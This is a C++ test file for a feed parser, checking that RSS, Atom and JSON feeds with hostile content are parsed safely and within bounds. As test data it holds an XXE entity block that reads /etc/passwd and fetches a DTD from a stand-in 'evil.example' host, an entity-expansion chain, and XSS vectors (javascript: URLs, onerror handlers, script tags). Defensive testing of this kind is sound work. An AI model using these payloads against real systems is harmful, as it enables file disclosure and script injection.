// Hostile documents: bounded, never active, never a crash.
#include <string>

#include "base/limits.hpp"
#include "parsers/chars.hpp"
#include "parsers/feed_json.hpp"
#include "tests/catch.hpp"
#include "tests/parsers/feed_fixture.hpp"

using namespace siftd;
using namespace siftd::test;

namespace {

const std::string kRss =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<rss version=\"2.0\" "
    "xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" "
    "xmlns:itunes=\"http://www.itunes.com/dtds/podcast-1.0.dtd\"><channel><title>C</"
    "title>"
    "<link>http://h.example/</link><image><url>/i.png</url><title>no</title></image>"
    "<item><title>One &amp; only</title><link>/1</link><guid>1</guid>"
    "<description><![CDATA[<p>Short</p>]]></description>"
    "<content:encoded><![CDATA[<p>Long <b>text</b> é</p>]]></content:encoded>"
    "<author>a@h.example (Ann)</author><pubDate>Sat, 08 Jan 2022 18:04:11 GMT</pubDate>"
    "<enclosure url=\"/a.mp3\" length=\"1\" type=\"audio/mpeg\"/>"
    "<itunes:duration>1:01</itunes:duration><category>x</category></item>"
    "<item><title>Two</title><link>/2</link><description>a "
    "&lt;b&gt;c</description></item>"
    "</channel></rss>\n";

const std::string kAtom =
    "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:lang=\"en\" "
    "xml:base=\"http://h.example/\">"
    "<title type=\"html\">C &amp;amp; D</title><link href=\"x\" rel=\"alternate\"/>"
    "<entry xml:base=\"y/\"><title>One</title><id>urn:1</id><updated>2022-01-08T18:04:11Z"
    "</updated><author><name>Ann</name><uri>ann</uri></author><content type=\"xhtml\">"
    "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Hi <a href=\"z\">é</a></p></div>"
    "</content></entry></feed>";

const std::string kJson =
    "{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"C\",\"items\":["
    "{\"id\":\"1\",\"title\":\"One "
    "\\u00e9\\n\",\"content_html\":\"<p>x<\\/p>\",\"tags\":[\"a\"],"
    "\"authors\":[{\"name\":\"Ann\"}],\"attachments\":[{\"url\":\"http://h.example/a\","
    "\"size_in_bytes\":12}]},{\"id\":2,\"content_text\":\"y\"}]}";

std::string whole_json(const Parsed& parsed) {
  std::string out;
  for (const Item& item : parsed.items) {
    append_json_item(out, item);
  }
  if (parsed.is_feed) {
    append_json_feed_members(out, parsed.info);
  }
  return out;
}

}  // namespace

TEST_CASE("safe: cut at any byte, the whole items come out and the cut is told",
          "[safe]") {
  const std::string body = GENERATE(kRss, kAtom, kJson);
  const Parsed whole = parse(body, "http://h.example/feed");
  CHECK(!whole.info.truncated);
  for (std::size_t size = 0; size < body.size(); ++size) {
    const Parsed part = parse(body.substr(0, size), "http://h.example/feed");
    REQUIRE(part.items.size() <= whole.items.size());
    for (std::size_t i = 0; i < part.items.size(); ++i) {
      REQUIRE(part.items[i] == whole.items[i]);
    }
    const bool complete = trim(body.substr(size)).empty();
    REQUIRE((!part.is_feed || part.info.truncated || complete));
  }
}

TEST_CASE("safe: changed bytes give valid UTF-8 and nothing active", "[safe]") {
  const std::string body = GENERATE(kRss, kAtom, kJson);
  unsigned state = 42;
  for (int round = 0; round < 3000; ++round) {
    std::string changed = body;
    for (int i = 0; i < 4; ++i) {
      state = state * 1103515245u + 12345u;
      const std::size_t at = (state >> 8) % changed.size();
      state = state * 1103515245u + 12345u;
      changed[at] = static_cast<char>(state >> 16);
    }
    const std::string json = whole_json(parse(changed, "http://h.example/feed"));
    REQUIRE(valid_utf8_prefix(json) == json.size());
    REQUIRE(json.find("<script") == json.npos);
  }
}

TEST_CASE("safe: entities of a DTD do not exist", "[safe]") {
  const Parsed parsed = parse(
      "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
      "\"&a;&a;&a;\">"
      "<!ENTITY x SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM "
      "\"http://evil.example/\"> "
      "%p;]><rss><channel><title>&b;&x;</title><item><title>&b;</title></item></"
      "channel></rss>");
  REQUIRE(parsed.items.size() == 1);
  CHECK(parsed.info.title == "&b;&x;");
  CHECK(parsed.items[0].title == "&b;");
}

TEST_CASE("safe: nothing active is in any URL or text", "[safe]") {
  const Parsed parsed = parse(
      "<rss><channel><title>C&lt;script&gt;x&lt;/script&gt;</title><link>javascript:x</"
      "link>"
      "<image><url>data:text/html,x</url></image><item><title>&lt;img src=x "
      "onerror=y&gt;T"
      "</title><link>java\nscript:x</link><guid>javascript:x</guid>"
      "<comments>vbscript:x</comments><enclosure url='file:///etc/passwd'/>"
      "<description>&lt;a href=\"javascript:x\" onclick=y&gt;z&lt;/a&gt;</description>"
      "</item></channel></rss>");
  REQUIRE(parsed.items.size() == 1);
  CHECK(parsed.info.title == "C");
  CHECK(parsed.info.home_page_url.empty());
  CHECK(parsed.info.icon.empty());
  const Item& item = parsed.items[0];
  CHECK(item.title == "T");
  CHECK(item.url.empty());
  CHECK(item.attachments.empty());
  CHECK(item.extensions_json.empty());
  CHECK(item.content_html == "<a>z</a>");
}

TEST_CASE("safe: depth, attributes and names are bounded", "[safe]") {
  std::string deep = "<rss><channel><title>C</title><item><title>T</title>";
  for (int i = 0; i < 100000; ++i) {
    deep += "<x>";
  }
  CHECK(parse(deep).is_feed);
  std::string wide = "<rss><channel><item";
  for (int i = 0; i < 100000; ++i) {
    wide += " a" + std::to_string(i) + "='x'";
  }
  CHECK(parse(wide + "><title>T</title></item></channel></rss>").items.size() == 1);
  const std::string name(1 << 20, 'n');
  CHECK(parse("<rss><channel><" + name + ">x</" + name +
              "><item><title>T</title></item></channel></rss>")
            .items.size() == 1);
  std::string json(200000, '[');
  CHECK(!parse("{\"items\":" + json).is_feed);
}

TEST_CASE("safe: unclosed items are still counted one by one", "[safe]") {
  std::string body = "<rss><channel>";
  for (int i = 0; i < 2000; ++i) {
    body += "<item><title>T" + std::to_string(i) + "<br><p></title>";
  }
  const Parsed parsed = parse(body + "</channel></rss>");
  REQUIRE(parsed.items.size() == 2000);
  CHECK(parsed.items[1999].title == "T1999");
}

TEST_CASE("safe: sections outside of any element, and versions that are none", "[safe]") {
  CHECK(parse("<rss/><![CDATA[a <![CDATA[b]]>").is_feed);
  CHECK(parse("<rss/><![CDATA[a").is_feed);
  CHECK(parse("<rss version='d\xFF\xFF'><channel/></rss>").info.format == "rss");
}

TEST_CASE("safe: hostile repetition ends quickly", "[safe]") {
  const char* piece =
      GENERATE("<", "&", "<a ", "<![CDATA[", "]]>", "<!--", "</x>", "<x a='",
               "<!DOCTYPE [", "&#", "<item>", "<title>", "\xC3", "<svg>", "&lt;svg&gt;",
               "<?", "\"", "{\"items\":[", "[", "\\u");
  CAPTURE(piece);
  for (const char* start :
       {"<rss><channel><item><description>", "<feed>", "{\"items\":[", ""}) {
    std::string body = start;
    while (body.size() < 400000) {
      body += piece;
    }
    parse(body);
  }
}

TEST_CASE("safe: the largest texts are cut and the feed says so", "[safe]") {
  const Parsed parsed = parse("<rss><channel><item><description>" +
                              std::string(limits::kMaxItemText + 5, 'x') +
                              "</description></item></channel></rss>");
  REQUIRE(parsed.items.size() == 1);
  CHECK(parsed.items[0].content_html.size() == limits::kMaxItemText);
  CHECK(parsed.info.truncated);
}
